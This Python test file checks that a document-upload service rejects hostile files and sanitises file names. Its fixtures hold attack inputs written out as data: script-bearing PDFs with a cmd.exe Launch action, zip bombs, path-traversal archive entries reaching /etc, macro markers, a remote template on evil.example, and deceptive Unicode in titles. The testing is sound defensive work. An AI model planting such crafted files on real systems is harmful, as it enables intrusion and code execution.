"""Hostile files: what claims to be a paper and is more than that is not taken."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest

from lianjing.kernel.refusal import BadInput
from lianjing.runtime.documents import packages
from lianjing.runtime.documents.formats import format_of
from lianjing.runtime.documents.models import Document
from lianjing.runtime.documents.queries import file_name_of
from lianjing.runtime.documents.services import upload
from tests.runtime.contract.office import NOW, Office

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PNG, JPG = b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0"
BODY = b'<?xml version="1.0"?><w:document/>'


def package(members: dict[str, bytes], *, level: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", level) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return held.getvalue()


def word(**more: bytes) -> bytes:
    return package({"word/document.xml": BODY, **more})


def lying_about_its_size() -> bytes:
    """The table of contents promises ten bytes where a megabyte is packed."""
    content = bytearray(package({"word/document.xml": BODY, "word/media/a.bin": bytes(1024 * 1024)}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = content.find(mark, content.find(mark) + 4)
        content[place + offset : place + offset + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def twice() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr("word/document.xml", BODY)
        file.writestr("Word/Document.xml", b"<other/>")
    return held.getvalue()


HOSTILE = {
    "a program before the PDF.pdf": b"MZ\x90\x00%PDF-1.7",
    "a page before the PDF.pdf": b"<html>%PDF-1.7",
    "a page within the PDF.pdf": b"%PDF-1.7\n<script>alert(1)</script>",
    "an archive after the PDF.pdf": b"%PDF-1.7\n%%EOF\n" + package({"a.class": b"x"}),
    "a script.pdf": b"%PDF-1.7 <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "a program call.pdf": b"%PDF-1.7 <</S/Launch/F(cmd.exe)>>",
    "an archive after.png": PNG + b"rest" + package({"a": b"x"}),
    "a page in the comment.jpg": JPG + b"\xff\xfe<ScRiPt src=x>",
    "a page.png": PNG + b"< html>",
    "macros.doc": OLE + "WordDocument".encode("utf-16-le") + "_VBA_PROJECT".encode("utf-16-le"),
    "an installer.doc": OLE + b"no stream of Word",
    "a workbook.doc": OLE + "Workbook".encode("utf-16-le"),
    "a bomb.docx": word(**{"word/a.xml": bytes(50 * 1024 * 1024)}),
    "a lie.docx": lying_about_its_size(),
    "a leading program.docx": b"MZ" + word(),
    "a trailing page.docx": word() + b"<html>",
    "a way out.docx": word(**{"../../etc/cron.d/x": b"x"}),
    "a way out by windows.docx": word(**{"..\\x.exe": b"x"}),
    "an absolute way.docx": word(**{"/etc/passwd": b"x"}),
    "a drive.docx": word(**{"c:x": b"x"}),
    "two faces.docx": twice(),
    "entities.docx": package({"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}),
    "entities in wide letters.docx": package(
        {"word/document.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a>'.encode("utf-16")}
    ),
    "macros by type.docx": word(
        **{"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}
    ),
    "macros.xlsx": package({"xl/workbook.xml": b"<x/>", "xl/vbaProject.bin": b"x"}),
    "a template from elsewhere.docx": word(
        **{"word/_rels/settings.xml.rels": b'<R Target="http://evil.example/t.dotm" TargetMode="External"/>'}
    ),
    "a workbook.docx": package({"xl/workbook.xml": b"<x/>"}),
}
HARMLESS = {
    "模板在本机.docx": word(**{"word/_rels/settings.xml.rels": b'<R Target="file:///C:/Normal.dotm"/>'}),
    "𠮷林龘靐.pdf": b"\xef\xbb\xbf%PDF-1.7",
    "明细.xlsx": package({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": b"<row/>" * 90_000}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_is_more_than_it_claims_is_not_taken(name: str) -> None:
    with pytest.raises(BadInput) as caught:
        format_of(name, HOSTILE[name])
    assert caught.value.field == "file"


@pytest.mark.parametrize("name", HARMLESS)
def test_an_ordinary_file_with_an_unusual_look_is_taken(name: str) -> None:
    assert format_of(name, HARMLESS[name])


def test_too_many_members_are_a_bomb_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "MOST_MEMBERS", 1)
    assert not packages.is_sound_package(word(a=b"1"), "word/document.xml")


@pytest.fixture
def given(db: None) -> Any:
    office = Office()
    matter = office.child(office.project())

    def give(name: str, content: bytes = b"%PDF-1.7 x", title: str = "") -> Document:
        return upload(
            matter_id=matter.pk,
            kind="permit",
            title=title,
            content=content,
            file_name=name,
            actor=office.actor(office.officer),
            now=NOW,
        )

    return give


@pytest.mark.parametrize(
    ("name", "handed_out"),
    [
        ("../../etc/passwd.pdf", "passwd.v1.pdf"),
        ("..\\..\\boot.pdf", "boot.v1.pdf"),
        ("C:\\x\\施工许可.pdf", "施工许可.v1.pdf"),
        ("𠮷林龘.pdf", "𠮷林龘.v1.pdf"),
        ('a"b<c>.pdf', "a_b_c_.v1.pdf"),
        ("...hidden.pdf", "hidden.v1.pdf"),
        ("a;b=c%0d%0aX.pdf", "a;b=c%0d%0aX.v1.pdf"),
    ],
)
def test_a_name_never_leads_anywhere(given: Any, name: str, handed_out: str) -> None:
    assert file_name_of(given(name)) == handed_out


@pytest.mark.parametrize("sign", ["\u202e", "\u200b", "\x00", "\x1b", "\u2066", "\ufeff"])
def test_a_title_with_signs_that_deceive_the_eye_is_not_taken(given: Any, sign: str) -> None:
    with pytest.raises(BadInput):
        given("a.pdf", title=f"申报{sign}fdp.exe")
    assert not Document.objects.exists()


def test_a_file_beyond_the_limit_is_not_taken(given: Any, settings: Any) -> None:
    settings.LIANJING_UPLOAD_LIMIT = 8
    with pytest.raises(BadInput):
        given("a.pdf")
